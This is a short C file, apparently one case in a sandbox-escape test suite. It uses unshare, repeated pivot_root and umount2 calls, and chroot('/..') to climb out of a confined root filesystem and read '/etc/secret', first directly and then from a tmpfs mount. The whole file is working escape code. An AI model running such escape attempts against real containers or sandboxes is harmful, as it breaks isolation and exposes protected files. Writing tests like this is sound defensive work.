/* Exchanges its root once and once more, to come to the one below (pivot_root(2)). */
#include "common/attack.h"

static void attempt(void) {
    TRY(unshare(CLONE_NEWNS));
    TRY(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
    for (int n = 0; n < 4; n++) {
        TRY(syscall(SYS_pivot_root, ".", "."));
        TRY(umount2("/", MNT_DETACH));
        TRY(umount2(".", MNT_DETACH));
        TRY(chdir("/.."));
        TRY(chroot("."));
        show("/etc/secret");
    }
    const char *place = mounted("tmpfs", NULL);
    if (place && chdir(place) == 0) {
        TRY(syscall(SYS_pivot_root, ".", "."));
        show("../etc/secret");
        show("/etc/secret");
        TRY(umount2(".", MNT_DETACH));
        show("/etc/secret");
    }
}
